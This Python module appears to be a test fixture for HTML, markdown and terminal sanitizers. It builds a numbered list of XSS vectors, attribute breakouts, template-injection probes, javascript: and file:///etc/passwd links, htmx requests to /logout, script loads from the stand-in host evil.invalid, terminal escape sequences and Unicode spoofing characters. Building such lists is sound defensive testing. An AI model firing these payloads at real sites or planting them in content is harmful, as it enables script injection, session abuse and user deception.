"""What could become a node, a script, a request or a disguise when a page shows it; each carries its number."""

from __future__ import annotations

from collections.abc import Iterator

RUN = "alert(1)"
AWAY = "http://evil.invalid"
HANDLERS = (
    "onload onerror onfocus onmouseover onclick ontoggle onanimationstart onanimationend ontransitionend onbegin onend"
    " onpointerenter onpointerover onwheel onscroll onbeforeinput oninput onchange onsubmit onauxclick oncopy onpaste ondrag"
    " onloadstart onplay ontimeupdate oncanplay onhashchange onpageshow onmessage onbeforetoggle"
).split()
HOLDERS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "div style=animation-name:x",
)
TAGS = (
    f"<script>{RUN}</script>", f"<script src={AWAY}/x.js></script>", f"<SCRIPT/x>{RUN}</SCRIPT>", f"<scr<script>ipt>{RUN}</script>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>", f"<link rel=stylesheet href={AWAY}/x.css>", f"<base href={AWAY}>", f"<meta http-equiv=refresh content='0;{AWAY}'>",
    f"<style>@import '{AWAY}/x.css'</style>", "<style>*{display:none}</style>", f"<form action={AWAY}><button>x</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>", f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>#x'/></svg>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<template><script>{RUN}</script></template>",
    f"<textarea></textarea><img src=x onerror={RUN}>", f"</title><script>{RUN}</script>", f"</pre></div></main><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[><script>{RUN}</script>]]>", f"<?xml><script>{RUN}</script>?>", f"<img src={AWAY}/p.png>",
    f"<picture><source srcset={AWAY}/p.png><img></picture>", f"<video poster={AWAY}/p.png></video>", f"<audio src={AWAY}></audio>",
    f"<portal src={AWAY}>", "<dialog open>x</dialog>", f"<button popovertarget=x onclick={RUN}>x", "<div hx-get=/logout hx-trigger=load>",
    "<div data-hx-post=/logout hx-trigger=load>", "<a href=# hx-on:click='alert(1)'>x</a>", f"<div hx-get={AWAY} hx-trigger=load>",
)  # fmt: skip
BREAKS = (
    f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>", f"`><img src=x onerror={RUN}>", f"\" autofocus onfocus={RUN} x=\"",
    f"' onmouseover={RUN} '", f"x onerror={RUN}", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"%3Cscript%3E{RUN}%3C/script%3E", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"</script><script>{RUN}</script>", f"${{{RUN}}}", f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{ 7 * 7 }}{% raw %}{0.__class__}", "{{ config }}{{ self.__init__.__globals__ }}", "<%= 7 * 7 %>#{7*7}", "{%import os%}", "@import 'x'",
)  # fmt: skip
MARKDOWN = (
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](&#106;avascript:{RUN})", f"[x](java\tscript:{RUN})", f"[x]( javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)", f"[x](vbscript:{RUN})", "[x](file:///etc/passwd)", f"![p]({AWAY}/p.png)", f"![p][r]\n\n[r]: {AWAY}/p.png",
    f"<{AWAY}/auto>", f"<javascript:{RUN}>", f"[x][y]\n\n[y]: javascript:{RUN}", f"[x]({AWAY} \"onmouseover={RUN}\")", f"```html\n<script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>", f"`<img src=x onerror={RUN}>`", f"|a|\n|-|\n|<img src=x onerror={RUN}>|", f"# <img src=x onerror={RUN}>",
    f"> <img src=x onerror={RUN}>", f"1. <img src=x onerror={RUN}>", f"[<img src=x onerror={RUN}>](x)", "[x](//evil.invalid)", "[x](\\\\evil.invalid)",
)  # fmt: skip
TERMINAL = (
    f"\x1b]8;;javascript:{RUN}\x1b\\click\x1b]8;;\x1b\\", f"\x1b]8;;{AWAY}\x07click\x1b]8;;\x07", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J\x1b[H", "\x1b[31mred<b>bold</b>\x1b[0m", "\x9b31mred", "\x1b[38;2;1;2;3mtrue\x1b[0m", "\x1b[" + "1;" * 500 + "m", "\x1bP$q\"p\x1b\\", "\x1b[6n",
    "\x1b[?1049h", "\x1b(0lqk\x1b(B", "over\rwritten", "a\x08b", "\x07\x0b\x0c\x7f", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b[3;J<script>",
)  # fmt: skip
DISGUISES = (
    "gnp\u202eexe.txt", "a\u2066b\u2069c", "\u200bzero\u200cwidth\u200d", "soft\u00adhyphen", "\ufeffbom", "\u061carabic", "\u200e\u200fmarks", "\u2028line\u2029paragraph",
    "\u0430dmin", "p\u0430yp\u0430l", "\U000e0041tag", "\u180emongolian", "\u3164hangul", "\ufff9annotation\ufffb", "a\u0300\u0301\u0302\u0303\u0304z", "\u2800blank",
)  # fmt: skip


def _all() -> Iterator[str]:
    yield from TAGS
    yield from BREAKS
    yield from MARKDOWN
    yield from TERMINAL
    yield from DISGUISES
    for number, handler in enumerate(HANDLERS):
        yield f"<{HOLDERS[number % len(HOLDERS)]} {handler}={RUN}>"
        if number < 8:
            yield f'"><{HOLDERS[number % len(HOLDERS)]} {handler}={RUN} x="'


def mark(number: int) -> str:
    return f"no{number}on"


PAYLOADS = [f"{mark(number)} {text}" for number, text in enumerate(_all())]
